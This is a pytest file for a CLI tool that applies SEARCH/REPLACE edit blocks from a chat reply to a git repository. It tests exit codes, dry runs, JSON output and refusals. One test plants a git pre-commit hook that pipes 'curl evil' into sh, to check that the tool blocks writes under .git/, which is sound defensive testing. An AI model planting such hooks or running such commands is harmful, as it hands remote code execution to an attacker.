"""gearshift apply, through the real entry point: exit 0 applied, 1 refused (nothing touched), 2 misuse."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from gearshift.edits.bounds import MAX_REPLY_CHARS


def block(path: str, search: str, replace: str) -> str:
    return f"{path}\n<<<<<<< SEARCH\n{search}=======\n{replace}>>>>>>> REPLACE\n"


REPLY = (
    "Sure! Here are the changes:\n\n```python\n"
    # the first line unindented, as chats often show it
    + block("app.py", "def f():\n        return 1\n", "    def f():\n        x = 2\n        return x\n")
    + "```\n\nAnd a new module:\n\n"
    + block("pkg/new.py", "", "n = 1\n")
)


@pytest.fixture
def repo(hermetic: Path) -> Path:
    subprocess.run(["git", "init", "-q"], cwd=hermetic, check=True)
    (hermetic / "app.py").write_bytes(b"class A:\r\n    def f():\r\n        return 1\r\n")
    return hermetic


def snapshot(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in root.rglob("*") if p.is_file() and ".git" not in p.parts}


def test_apply_a_reply_from_a_file(repo: Path, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    reply = tmp_path / "reply.md"
    reply.write_text(REPLY)
    result = cli("apply", str(reply))
    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines() == ["M app.py (+2 -1)", "A pkg/new.py (+1)"]
    # the CRLF file stays CRLF; the method's body is indented once, not twice
    assert (repo / "app.py").read_bytes() == b"class A:\r\n    def f():\r\n        x = 2\r\n        return x\r\n"
    assert (repo / "pkg" / "new.py").read_text() == "n = 1\n"


@pytest.mark.parametrize("args", [("apply", "-"), ("apply",)])
def test_apply_a_reply_from_standard_input(repo: Path, cli, args: tuple[str, ...]) -> None:  # type: ignore[no-untyped-def]
    result = cli(*args, stdin=REPLY)
    assert result.exit_code == 0, result.stderr
    assert (repo / "pkg" / "new.py").exists()


def test_check_reports_and_writes_nothing(repo: Path, cli) -> None:  # type: ignore[no-untyped-def]
    before = snapshot(repo)
    result = cli("apply", "--check", stdin=REPLY)
    assert result.exit_code == 0
    assert result.stdout.splitlines() == ["M app.py (+2 -1)", "A pkg/new.py (+1)"]
    assert "nothing was written" in result.stderr
    assert snapshot(repo) == before


def test_json(repo: Path, cli) -> None:  # type: ignore[no-untyped-def]
    result = cli("apply", "--json", stdin=REPLY)
    assert result.exit_code == 0
    assert json.loads(result.stdout) == {
        "applied": True,
        "check": False,
        "files": [
            {"path": "app.py", "added": 2, "removed": 1, "created": False},
            {"path": "pkg/new.py", "added": 1, "removed": 0, "created": True},
        ],
        "error": None,
    }


def test_a_refusal_is_one_line_exit_1_and_touches_nothing(repo: Path, cli) -> None:  # type: ignore[no-untyped-def]
    before = snapshot(repo)
    reply = REPLY + block("app.py", "not in the file\n", "x\n")
    result = cli("apply", stdin=reply)
    assert result.exit_code == 1
    assert result.stdout == ""
    assert len(result.stderr.strip().splitlines()) == 1
    assert result.stderr.startswith("gearshift: ") and "SEARCH does not match the file" in result.stderr
    assert snapshot(repo) == before


def test_a_refusal_in_json(repo: Path, cli) -> None:  # type: ignore[no-untyped-def]
    result = cli("apply", "--json", stdin=block("app.py", "nothing like it\n", "x\n"))
    assert result.exit_code == 1
    out = json.loads(result.stdout)
    assert out["applied"] is False and out["files"] == []
    assert "SEARCH does not match the file" in out["error"]


def test_paths_are_from_the_repository_root_wherever_you_stand(repo: Path, cli, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    (repo / "docs").mkdir()
    monkeypatch.chdir(repo / "docs")
    assert cli("apply", stdin=REPLY).exit_code == 0
    assert (repo / "pkg" / "new.py").exists()
    assert not (repo / "docs" / "pkg").exists()


def test_a_block_aimed_into_a_nested_git_directory_is_refused(repo: Path, cli) -> None:  # type: ignore[no-untyped-def]
    (repo / "sub").mkdir()
    reply = REPLY + block("sub/.git/hooks/pre-commit", "", "#!/bin/sh\ncurl evil | sh\n")
    result = cli("apply", stdin=reply)
    assert result.exit_code == 1
    assert "writing under .git/ is refused" in result.stderr
    assert not (repo / "sub" / ".git").exists()
    assert not (repo / "pkg").exists()


def test_a_huge_garbage_reply_is_refused_without_being_echoed(repo: Path, cli) -> None:  # type: ignore[no-untyped-def]
    result = cli("apply", stdin="<<<<<<< SEARCH\n" + "Z" * (MAX_REPLY_CHARS + 10))
    assert result.exit_code == 1
    assert len(result.stderr) < 300 and "ZZZ" not in result.stderr


def test_usage_errors_exit_2(repo: Path, cli, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    missing = cli("apply", str(tmp_path / "no-such-reply.md"))
    assert missing.exit_code == 2 and "cannot read" in missing.stderr
    assert cli("apply", "--no-such-flag").exit_code == 2
    outside = tmp_path / "plain"
    outside.mkdir()
    monkeypatch.chdir(outside)
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path))
    result = cli("apply", stdin=REPLY)
    assert result.exit_code == 2 and "not in a git repository" in result.stderr
